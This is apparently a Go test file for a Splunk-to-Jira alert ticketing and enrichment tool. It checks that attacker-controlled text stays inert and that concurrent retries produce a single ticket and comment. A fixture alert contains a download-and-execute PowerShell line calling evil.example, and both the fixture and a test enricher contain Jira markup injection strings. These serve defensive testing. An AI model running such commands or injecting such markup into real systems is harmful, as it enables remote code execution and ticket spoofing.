package jira_test

import (
	"context"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"funnelweb/actions/enrich"
	"funnelweb/actions/ticket"
	"funnelweb/framework"
	"funnelweb/framework/frameworktest"
	"funnelweb/internal/jira"
	"funnelweb/internal/sandbox/fault"
	"funnelweb/internal/sandbox/wiki"
)

const malware = `{"sid":"scheduler__admin__search__RMD5_at_1795175940_1","search_name":"Malware found on host","app":"search",
"owner":"admin","results_link":"https://splunk.lab.example/app/search/@go?sid=1","result":{"user":"jdoe","host":"WS-042",
"md5":"44d88612fea8a8f36de82e1278abb02f","command":"iwr http://evil.example/x.ps1 | iex","note":"[~admin] {noformat:x} !http://evil.example/x.png!"}}`

// hostile is an enricher whose every text is an attack.
type hostile struct{ kind framework.Kind }

func (h hostile) Kinds() []framework.Kind { return []framework.Kind{h.kind} }

func (h hostile) Enrich(_ context.Context, indicator framework.Indicator) (framework.Finding, error) {
	const attack = "[~admin] !http://evil.example/x.png! {noformat:x} *b* http://evil.example |x|"
	return framework.Finding{
		Indicator: indicator, Verdict: framework.Malicious, Summary: attack, Link: "https://www.virustotal.com/gui/file/1",
		Facts:   []framework.Fact{{Key: "a", Label: "Threat", Value: attack}, {Key: "b", Label: attack, Value: "Lab\nSecond line"}},
		AskedAt: frameworktest.Start(), StaleAt: frameworktest.Start().Add(time.Hour),
	}, nil
}

// loop is the site with both actions, on the ledger of one cluster.
type loop struct {
	site
	hooks chan []byte
	tick  *ticket.Action
}

func newLoop(t *testing.T) loop {
	t.Helper()
	l := loop{site: newSite(t, jira.Cloud, nil), hooks: make(chan []byte, 10)}
	receiver := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		l.hooks <- body
	}))
	t.Cleanup(receiver.Close)
	l.SetWebhook(receiver.URL, framework.NewSecret(canary))
	l.deps.Tickets = l.client
	l.deps.Enrichers = map[string]framework.Enricher{"directory": hostile{framework.User}, "engines": hostile{framework.MD5}}
	config := ticket.Defaults()
	config.Project = "SEC"
	l.tick = must(ticket.New(config, l.deps))(t)
	return l
}

// replica is the enriching action of one more process. With ticketOf it works on alerts, else on tickets.
func (l loop) replica(t *testing.T, ticketOf string) *enrich.Action {
	t.Helper()
	return must(enrich.New(enrich.Config{
		TicketOf:   ticketOf,
		Indicators: map[framework.Kind]enrich.Paths{framework.User: {"result.user"}, framework.MD5: {"result.md5"}},
		With:       []string{"directory", "engines"},
	}, l.deps))(t)
}

// alert stores the alert and makes its ticket, and returns the event of Jira's webhook.
func (l loop) alert(t *testing.T) framework.Event {
	t.Helper()
	alert := must(framework.NewEvent("splunk.alert", "1", framework.JSON(malware)))(t)
	alert.Time = frameworktest.Start()
	l.deps.Activity.(*frameworktest.RecordingActivity).AddEvent(alert) //nolint:forcetypeassert // frameworktest.Deps says so
	l.untilWorks(t, work{l.tick, framework.Job{Automation: "ticket-for-alert", Event: alert}})
	created := must(framework.NewEvent("jira.issue_created", "1", framework.JSON(<-l.hooks)))(t)
	created.Time = frameworktest.Start()
	return created
}

// work is a job and who does it.
type work struct {
	action framework.Action
	job    framework.Job
}

// untilWorks does jobs as the engine would, all at once. Time passes only between attempts: no call takes as long as
// the waits between them.
func (l loop) untilWorks(t *testing.T, works ...work) {
	t.Helper()
	for range 200 { // a Jira that spaces writes lets one of them through at a time
		errs := make([]error, len(works))
		var working sync.WaitGroup
		for i, one := range works {
			working.Go(func() { _, errs[i] = one.action.Do(t.Context(), one.job) })
		}
		working.Wait()
		next := l.clock.Now().Add(time.Second)
		var left []work
		for i, err := range errs {
			if err == nil {
				continue
			}
			left = append(left, works[i])
			if wait, ok := errors.AsType[*framework.Wait](err); ok && wait.Until.After(next) {
				next = wait.Until
			}
			if after := l.clock.Now().Add(framework.RetryAfter(err)); after.After(next) {
				next = after
			}
		}
		if works = left; len(works) == 0 {
			return
		}
		l.clock.Advance(next.Sub(l.clock.Now()))
	}
	t.Errorf("200 attempts were not enough for %d jobs", len(works))
}

func TestAnAlertBecomesAnEnrichedTicketInWhichNothingFromOutsideIsLive(t *testing.T) {
	t.Parallel()
	l := newLoop(t)
	created := l.alert(t)
	replica := l.replica(t, "")
	for _, name := range replica.Jobs() {
		l.untilWorks(t, work{replica, framework.Job{Automation: "enrich-ticket", Name: name, Event: created}})
	}
	issue, _ := l.Issue("SEC-1")
	comments := l.Comments("SEC-1")
	if len(comments) != 1 {
		t.Fatalf("%d comments", len(comments))
	}
	compareGolden(t, "ticket.txt.golden", wiki.Text(issue.Description))
	compareGolden(t, "comment.wiki.golden", comments[0].Body)
	compareGolden(t, "comment.txt.golden", wiki.Text(comments[0].Body))
	for _, live := range slices.Concat(wiki.Active(issue.Description), wiki.Active(comments[0].Body)) {
		kind, about, _ := strings.Cut(live, ": ")
		if !slices.Contains([]string{"heading", "bold", "table", "noformat", "line break"}, kind) && live != "link: https://www.virustotal.com/gui/file/1" {
			t.Errorf("%s is live: %s", kind, about)
		}
	}
}

func TestReplicasAtOnceOnAMisbehavingJiraMakeOneTicketAndOneWholeComment(t *testing.T) {
	t.Parallel()
	for name, faults := range map[string][]fault.Fault{
		"all goes well": nil,
		"answers are lost": {
			{Match: "POST /rest/api/2/issue", CutAfter: true, Times: 1},
			{Match: "POST /rest/api/2/issue/SEC-1/comment", CutAfter: true, Times: 1},
			{Match: "PUT /rest/api/2/issue/SEC-1/comment", CutAfter: true, Times: 1},
		},
		"a proxy answers": {
			{Match: "POST /rest/api/2/issue", HTML: true, Times: 1},
			{Match: "POST /rest/api/2/issue/SEC-1/comment", Status: 502, Times: 1},
			{Match: "PUT /rest/api/2/issue/SEC-1/comment", HTML: true, Times: 1},
			{Match: "GET /rest/api/2/issue/SEC-1/comment", Status: 503, Times: 1},
		},
		"Jira asks to slow down": {
			{Match: "POST /rest/api/2/issue", Status: 429, RetryAfter: time.Second, Times: 1},
			{Match: "PUT /rest/api/2/issue/SEC-1/comment", Status: 429, RetryAfter: time.Second, Times: 2},
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			l := newLoop(t)
			for _, one := range faults {
				l.Faults().Add(one)
			}
			created := l.alert(t)
			var works []work
			for _, name := range []string{"directory", "engines", "directory"} { // one is delivered twice
				works = append(works, work{l.replica(t, ""), framework.Job{Automation: "enrich-ticket", Name: name, Event: created}})
			}
			l.untilWorks(t, works...)
			var bodies []string
			for _, comment := range l.Comments("SEC-1") {
				bodies = append(bodies, comment.Body)
			}
			if len(l.Issues()) != 1 || len(bodies) != 1 {
				t.Fatalf("%d tickets, comments %q", len(l.Issues()), bodies)
			}
			headings := slices.DeleteFunc(wiki.Active(bodies[0]), func(live string) bool { return !strings.HasPrefix(live, "heading") })
			want := []string{"heading: What is known about this ticket: malicious", "heading: directory: malicious", "heading: engines: malicious"}
			if diff := cmp.Diff(want, headings); diff != "" {
				t.Errorf("sections (-want +got):\n%s", diff)
			}
		})
	}
}

func TestAnAlertIsEnrichedAlthoughJirasWebhookNeverArrives(t *testing.T) {
	t.Parallel()
	l := newLoop(t)
	l.Faults().Add(fault.Fault{Match: "POST /rest/api/2/issue", CutAfter: true, Times: 1})
	alert := must(framework.NewEvent("splunk.alert", "1", framework.JSON(malware)))(t)
	alert.Time = frameworktest.Start()
	works := []work{{l.tick, framework.Job{Automation: "ticket-for-alert", Event: alert}}}
	replica := l.replica(t, "ticket-for-alert")
	for _, name := range replica.Jobs() {
		works = append(works, work{replica, framework.Job{Automation: "enrich-alert", Name: name, Event: alert}})
	}
	l.untilWorks(t, works...)
	comments := l.Comments("SEC-1")
	if len(l.Issues()) != 1 || len(comments) != 1 {
		t.Fatalf("%d tickets, %d comments", len(l.Issues()), len(comments))
	}
	age := regexp.MustCompile(`, [0-9]+ min before it was shown here`) // however long the jobs took by the test's clock
	compareGolden(t, "comment.wiki.golden", age.ReplaceAllString(comments[0].Body, ""))
}
